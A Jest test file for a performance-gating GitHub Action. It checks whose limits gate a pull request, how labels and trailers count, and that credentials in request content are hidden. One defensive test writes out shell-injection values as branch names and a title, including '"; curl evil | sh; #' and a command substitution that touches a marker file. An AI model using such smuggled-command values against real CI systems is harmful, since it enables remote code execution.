import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { existsSync, realpathSync } from 'node:fs'
import * as core from '../../__fixtures__/core.js'
import { exampleServiceYaml, freePort } from '../../__fixtures__/config.js'
import { GitSandbox, git } from '../../__fixtures__/git.js'
import { FakeGitHub } from '../../__fixtures__/github/fake-api.js'

jest.unstable_mockModule('@actions/core', () => core)
const { run } = await import('../../src/main.js')
const { unspacedClient } = await import('../../__fixtures__/github/client.js')
const { fixtureProfile, syntheticDoor } = await import('../harness/fake-measurer.js')
const { stopAllServices } = await import('../../src/service/spawn.js')

/**
 * These tests are about whose limits gate a pull request, what the comment says and what reaches git: the
 * measurement interface is the synthetic one (p99 6 ms, a quiet machine), so no service runs. The real action, end to
 * end, is in action/baseline.test.ts and local-action.test.ts.
 */
const fake = (change?: Record<string, number>) => ({
  createClient: unspacedClient,
  ...syntheticDoor({ change })
})

const savedEnv = { ...process.env }
let sandbox: GitSandbox
let work: string
let api: FakeGitHub

beforeEach(async () => {
  core.reset()
  core.setFailed.mockClear()
  sandbox = await new GitSandbox().start(1)
  work = sandbox.clone('work')
  api = await new FakeGitHub().start()
})
afterEach(async () => {
  process.env = { ...savedEnv }
  await stopAllServices()
  await api.stop()
  await sandbox.stop()
})

const config = (port: number, limits: string, extra = '') =>
  exampleServiceYaml(
    port,
    `    thresholds:
${limits}${extra}`
  )

/** main holds `base`; the PR branch changes perfgate.yml to `head` in a commit that also carries a trailer. */
async function pullRequest(
  base: string,
  head: string,
  labels: string[] = [],
  names: { base?: string; head?: string; title?: string } = {}
): Promise<void> {
  return pullRequestOf({ 'perfgate.yml': base }, { 'perfgate.yml': head }, labels, names)
}

/** main holds `baseFiles`; the PR branch writes `headFiles` (null removes a file) in one commit. */
async function pullRequestOf(
  baseFiles: Record<string, string>,
  headFiles: Record<string, string | null>,
  labels: string[] = [],
  names: { base?: string; head?: string; title?: string } = {}
): Promise<void> {
  const baseBranch = names.base ?? 'main'
  const write = async (files: Record<string, string | null>) => {
    for (const [file, text] of Object.entries(files)) {
      if (text === null) {
        git(work, 'rm', '-q', file)
        continue
      }
      await mkdir(path.dirname(path.join(work, file)), { recursive: true })
      await writeFile(path.join(work, file), text)
      git(work, 'add', file)
    }
  }
  await write(baseFiles)
  git(work, 'commit', '-q', '-m', 'perfgate limits')
  git(work, 'push', '-q', 'origin', `HEAD:refs/heads/${baseBranch}`)
  git(work, 'fetch', '-q', 'origin')
  const mainSha = git(work, 'rev-parse', 'HEAD')
  git(work, 'checkout', '-q', '-b', 'feature')
  await write(headFiles)
  git(work, 'commit', '-q', '--allow-empty', '-am', 'Loosen the gate\n\nPerf-Accepted: * *')
  const event = {
    pull_request: {
      number: 7,
      title: names.title ?? 'Loosen the gate',
      head: {
        sha: git(work, 'rev-parse', 'HEAD'),
        ref: names.head ?? 'feature',
        repo: { full_name: 'o/r', fork: false }
      },
      base: { sha: mainSha, ref: baseBranch, repo: { full_name: 'o/r' } },
      labels: labels.map(name => ({ name }))
    },
    repository: { default_branch: 'main', full_name: 'o/r' }
  }
  await writeFile(path.join(sandbox.root, 'event.json'), JSON.stringify(event))
  Object.assign(process.env, {
    GITHUB_WORKSPACE: work,
    GITHUB_REPOSITORY: 'o/r',
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: path.join(sandbox.root, 'event.json'),
    GITHUB_BASE_REF: baseBranch,
    GITHUB_HEAD_REF: names.head ?? 'feature',
    GITHUB_API_URL: api.url,
    GITHUB_RUN_ID: '42',
    GITHUB_STEP_SUMMARY: path.join(sandbox.root, 'summary.md')
  })
  Object.assign(core.inputs, {
    config: 'perfgate.yml',
    mode: 'run',
    comment: 'always',
    'github-token': 'ghs_x'
  })
}

const report = async () => JSON.parse(await readFile(core.outputs.report!, 'utf8'))

describe('the gate of a pull request comes from its base', () => {
  it('a PR that loosens its own limit is gated by the base’s, and the comment shows the change side by side', async () => {
    const port = await freePort()
    const added = `  - name: added\n    request: { url: http://127.0.0.1:${port}/reservations/2 }\n    thresholds:\n      latency.p99: "< 1us"\n`
    await pullRequest(
      config(port, '      latency.p99: "< 1us"\n'),
      config(port, '      latency.p99: "< 5s"\n', added)
    )
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('fail')
    expect(result.gate).toMatchObject({
      source: 'base',
      changes: [{ scenario: 'get', limit: 'latency.p99', base: '< 1us', head: '< 5s' }]
    })
    const get = result.scenarios.find((s: { name: string }) => s.name === 'get')
    expect(get.checks[0]).toMatchObject({ expression: '< 1us', verdict: 'fail' })
    // a scenario the PR adds is measured and gated by its own limits
    const own = result.scenarios.find((s: { name: string }) => s.name === 'added')
    expect(own.checks[0]).toMatchObject({ expression: '< 1us', verdict: 'fail' })
    expect(api.comments).toHaveLength(1)
    const body = api.comments[0]!.body
    expect(body).toMatch(/get {2}latency\.p99 {2}< 1us {2}-> {2}< 5s/)
    expect(body).toContain('The changes take effect after merge, or now with the perf-accepted label')
    expect(core.setFailed).toHaveBeenCalled()
  })

  it('the PR’s limits apply with the perf-accepted label, and the comment names who applied it', async () => {
    const port = await freePort()
    api.timeline.set(7, [
      { event: 'committed', sha: 'c'.repeat(40) },
      { event: 'labeled', label: { name: 'bug' }, actor: { login: 'someone' } },
      { event: 'labeled', label: { name: 'perf-accepted' }, actor: { login: 'maintainer' } }
    ])
    api.permissions.set('maintainer', 'maintain')
    await pullRequest(
      config(port, '      latency.p99: "< 1us"\n'),
      config(port, '      latency.p99: "< 5s"\n'),
      ['perf-accepted']
    )
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('pass')
    expect(result.gate.source).toBe('pr')
    expect(result.gate.message).toContain('the perf-accepted label, applied by @maintainer')
    expect(api.comments[0]!.body).toMatch(/get {2}latency\.p99 {2}< 1us {2}-> {2}< 5s/)
    expect(core.setFailed).not.toHaveBeenCalled()
  })

  it('a label applied before the latest push accepts nothing: the base’s limits apply and the warning says to re-apply it', async () => {
    const port = await freePort()
    api.timeline.set(7, [
      { event: 'labeled', label: { name: 'perf-accepted' }, actor: { login: 'maintainer' } },
      { event: 'committed', sha: 'c'.repeat(40) }
    ])
    api.permissions.set('maintainer', 'write')
    await pullRequest(
      config(port, '      latency.p99: "< 1us"\n'),
      config(port, '      latency.p99: "< 5s"\n'),
      ['perf-accepted']
    )
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('fail')
    expect(result.gate.source).toBe('base')
    expect(core.annotations.map(a => a.message)).toContainEqual(
      'perfgate: the perf-accepted label accepts nothing: the perf-accepted label (applied by @maintainer) predates the latest push: re-apply it to accept the pull request as it is now'
    )
  })

  it('a PR that adds perfgate is gated by its own limits', async () => {
    const port = await freePort()
    await pullRequest('', config(port, '      latency.p99: "< 5s"\n'))
    git(work, 'checkout', '-q', 'main')
    git(work, 'rm', '-q', 'perfgate.yml')
    git(work, 'commit', '-q', '-m', 'no perfgate yet')
    git(work, 'push', '-q', 'origin', 'HEAD:main')
    git(work, 'checkout', '-q', 'feature')
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('pass')
    expect(result.gate).toMatchObject({ source: 'pr', changes: [] })
    expect(result.gate.message).toMatch(
      /has no perfgate\.yml \(nor perfgate\.yaml or \.github\/perfgate\.yml\): this pull request adds perfgate/
    )
  })
})

describe('the base’s config is found as the head’s is', () => {
  const strict = (port: number) => config(port, '      latency.p99: "< 1us"\n')
  const loose = (port: number) => config(port, '      latency.p99: "< 5s"\n')

  it('a PR that loosens .github/perfgate.yml (no perfgate.yml anywhere) is gated by the base’s copy', async () => {
    const port = await freePort()
    await pullRequestOf({ '.github/perfgate.yml': strict(port) }, { '.github/perfgate.yml': loose(port) })
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('fail')
    expect(result.gate).toMatchObject({
      source: 'base',
      changes: [{ scenario: 'get', limit: 'latency.p99', base: '< 1us', head: '< 5s' }]
    })
  })

  it('a PR that adds perfgate.yml beside the base’s .github/perfgate.yml, or moves it, is refused without the label', async () => {
    const port = await freePort()
    await pullRequestOf({ '.github/perfgate.yml': strict(port) }, { 'perfgate.yml': loose(port) })
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('fail')
    expect(result.gate.source).toBe('base')
    expect(result.gate.changes).toContainEqual({
      limit: 'config file',
      base: '.github/perfgate.yml',
      head: 'perfgate.yml'
    })
    expect(result.gate.message).toContain("moves or shadows perfgate's config")
    expect(api.comments[0]!.body).toContain('config file')
  })

  it('a moved config whose limits were loosened is refused too; the base’s limits apply', async () => {
    const port = await freePort()
    await pullRequestOf(
      { 'perfgate.yml': strict(port) },
      { 'perfgate.yml': null, '.github/perfgate.yml': loose(port) }
    )
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('fail')
    expect(result.gate.changes).toContainEqual({
      limit: 'config file',
      base: 'perfgate.yml',
      head: '.github/perfgate.yml'
    })
  })
})

describe('a base config that cannot be read', () => {
  it('fails closed: every scenario errored with the reason, nothing measured, the PR’s limits not used', async () => {
    const port = await freePort()
    await pullRequest('version: 1\nscenarios: [\n', config(port, '      latency.p99: "< 5s"\n'))
    await run(fake())
    const result = await report()
    expect(result.verdict).toBe('errored')
    expect(result.gate.message).toMatch(
      /the gate could not be read from the base \(main at [0-9a-f]{12}\): it is invalid/
    )
    expect(result.scenarios[0].error).toMatchObject({ kind: 'base-unavailable' })
    expect(result.scenarios[0].error.message).toContain('does not fall back to the pull request')
    expect(core.setFailed).toHaveBeenCalled()
  })
})

describe('shell-looking branch names and titles', () => {
  it('are never evaluated by a shell: they reach git as arguments and the comment as escaped text', async () => {
    const port = await freePort()
    const marker = path.join(sandbox.root, 'pwned')
    const baseBranch = `base$(touch\${IFS}${marker});echo"x"|sh`
    const evil = '"; curl evil | sh; #'
    const base = config(port, '      latency.p99: "< 4s"\n').replace(
      'service:\n',
      'service:\n  build: echo built\n'
    )
    await pullRequest(base, base.replace('< 4s', '< 5s'), [], {
      base: baseBranch,
      head: evil,
      title: '$(id) `id`'
    })
    Object.assign(core.inputs, { mode: 'compare' })
    await run(fake())
    expect(existsSync(marker)).toBe(false)
    const result = await report()
    expect(result.mode).toBe('compare')
    expect(result.scenarios[0].verdict).not.toBe('errored')
    expect(result.gate.message).toContain(baseBranch)
    const body = api.comments[0]!.body
    // the branch name appears only as escaped text: no raw `|`, and the $(...) is inert text
    expect(body).toContain('base$(touch${IFS}')
    expect(body).not.toContain('"x"|sh')
    expect(body).toContain('&#124;sh')
  }, 120_000)
})

describe('accepting a regression in a pull request', () => {
  it('a Perf-Accepted trailer in the PR’s own commits accepts nothing', async () => {
    const port = await freePort()
    const compareConfig = `version: 1
service:
  command: node server.mjs
  env: { PORT: "${port}", CPU_US: "50" }
  ready: { url: http://127.0.0.1:${port}/health, timeout: 15s }
defaults: { warmup: 100ms, duration: 300ms, connections: 4, min-requests: 5 }
compare: { rounds: { min: 2, max: 3 }, confirm: false }
scenarios:
  - name: get
    request: { url: http://127.0.0.1:${port}/reservations/1 }
    regression:
      server.rss.peak: "+20%"
`
    await pullRequest(compareConfig, compareConfig)
    Object.assign(core.inputs, { mode: 'compare', comment: 'off' })
    // the head holds 250% more memory: a regression of server.rss.peak
    await run(fake({ 'server.rss.peak': 2.5 }))
    const result = await report()
    const check = result.scenarios[0].checks.find((c: { metric: string }) => c.metric === 'server.rss.peak')
    expect(check.verdict).toBe('fail')
    expect(check.acceptedBy).toBeUndefined()
    expect(result.verdict).toBe('fail')
  }, 120_000)
})

describe('the profile in the comment of a pull request', () => {
  it('links a function to its line in the PR’s head commit, not the merge commit GitHub checks out', async () => {
    const port = await freePort()
    const compareConfig = `version: 1
service:
  command: node server.mjs
  env: { PORT: "${port}", CPU_US: "50" }
  ready: { url: http://127.0.0.1:${port}/health, timeout: 15s }
defaults: { warmup: 100ms, duration: 300ms, connections: 4, min-requests: 5 }
compare: { rounds: { min: 2, max: 3 }, confirm: false }
scenarios:
  - name: get
    request: { url: http://127.0.0.1:${port}/reservations/1 }
    regression:
      server.rss.peak: "+20%"
`
    await pullRequest(compareConfig, compareConfig)
    const head = git(work, 'rev-parse', 'HEAD')
    const merge = 'e'.repeat(40)
    process.env.GITHUB_SHA = merge
    Object.assign(core.inputs, { mode: 'compare' })
    // the recorded profiles, their repository files as files of the PR's checkout
    const root = realpathSync(work)
    await run({
      createClient: unspacedClient,
      ...syntheticDoor({
        change: { 'server.rss.peak': 2.5 },
        profile: request => ({
          sides: Object.fromEntries(request.sides.map(side => [side, fixtureProfile(side, root)])),
          notes: []
        })
      })
    })
    const result = await report()
    expect(result.verdict).toBe('fail')
    expect(result.git).toMatchObject({ sha: merge, headSha: head })
    const body = api.comments[0]!.body
    expect(body).toContain('**Where the head spends more CPU per request**')
    expect(body).toContain(`(https://github.com/o/r/blob/${head}/bench/profile-service.cjs#L20)`)
    expect(body).not.toContain(`/blob/${merge}/`)
  }, 120_000)
})

describe('gateConfig and limitChanges', () => {
  const text = (regression: string, extra = '') => `version: 1
service: { command: node s.js, ready: { url: http://127.0.0.1:1/ } }
compare: { rounds: { min: 3, max: 15 } }
scenarios:
  - name: list
    request: { url: http://127.0.0.1:1/list }
    regression:
      throughput.rps: "${regression}"
${extra}`
  it('keeps the base’s tolerances, the base’s scenarios and its compare settings; lists every change', async () => {
    const { parseConfig } = await import('../../src/config/load.js')
    const { gateConfig, limitChanges } = await import('../../src/action/pr-gate.js')
    const base = parseConfig(
      text('-5%', '  - name: search\n    request: { url: http://127.0.0.1:1/search }\n'),
      'base.yml',
      '/repo'
    )
    const head = parseConfig(
      text('-50%').replace('max: 15', 'max: 4') +
        '  - name: fresh\n    request: { url: http://127.0.0.1:1/fresh }\n    thresholds: { latency.p99: "< 9s" }\n',
      'perfgate.yml',
      '/repo'
    )
    expect(limitChanges(base, head)).toEqual([
      { scenario: 'list', limit: 'throughput.rps (regression)', base: '-5%', head: '-50%' },
      { scenario: 'search', limit: 'scenario', base: 'measured', head: '(removed)' },
      { limit: 'compare.rounds', base: '3 to 15', head: '3 to 4' }
    ])
    const gated = gateConfig(head, base)
    expect(gated.scenarios.map(s => s.name)).toEqual(['list', 'fresh', 'search'])
    expect(gated.scenarios[0]!.regression[0]).toMatchObject({ expression: '-5%', tolerance: 0.05 })
    expect(gated.scenarios[0]!.source).toBeUndefined()
    expect(gated.scenarios[1]!.thresholds[0]!.expression).toBe('< 9s')
    expect(gated.compare.rounds.max).toBe(15)
    expect(gated.service).toBe(head.service)
    expect(gated.baseline).toBe(base.baseline)
    const noStore = parseConfig(text('-5%') + 'baseline: { store: none }\n', 'perfgate.yml', '/repo')
    expect(limitChanges(base, noStore)).toContainEqual({
      limit: 'baseline.store',
      base: 'branch perfgate-baselines of origin',
      head: 'none'
    })
  })

  it('counts header values, body content and placeholder values as part of the scenario, without showing them', async () => {
    const { parseConfig } = await import('../../src/config/load.js')
    const { gateConfig, limitChanges } = await import('../../src/action/pr-gate.js')
    const scenario = (token: string, body: string, city: string) => `version: 1
service: { command: node s.js, ready: { url: http://127.0.0.1:1/ } }
scenarios:
  - name: book
    request:
      method: POST
      url: http://127.0.0.1:1/book/{{city}}
      headers: { authorization: "Bearer ${token}" }
      body: '${body}'
    values: { city: [${city}] }
    thresholds: { latency.p99: "< 50ms" }
`
    const base = parseConfig(scenario('base-secret', '{"n":1}', 'Oslo'), 'base.yml', '/repo')
    for (const head of [
      scenario('head-secret', '{"n":1}', 'Oslo'),
      scenario('base-secret', '{"n":9}', 'Oslo'),
      scenario('base-secret', '{"n":1}', 'Nowhere')
    ].map(text => parseConfig(text, 'perfgate.yml', '/repo'))) {
      const changes = limitChanges(base, head)
      expect(changes).toEqual([
        {
          scenario: 'book',
          limit: 'request content',
          base: 'header values, body and values as in the base',
          head: 'changed (not shown: they may hold credentials)'
        }
      ])
      expect(JSON.stringify(changes)).not.toContain('secret')
      const gated = gateConfig(head, base).scenarios[0]!
      expect(gated.request.headers.authorization).toBe('Bearer base-secret')
      expect(gated.request.body).toBe('{"n":1}')
      expect(gated.values).toEqual({ city: ['Oslo'] })
    }
    expect(
      limitChanges(base, parseConfig(scenario('base-secret', '{"n":1}', 'Oslo'), 'p.yml', '/repo'))
    ).toEqual([])
  })
})
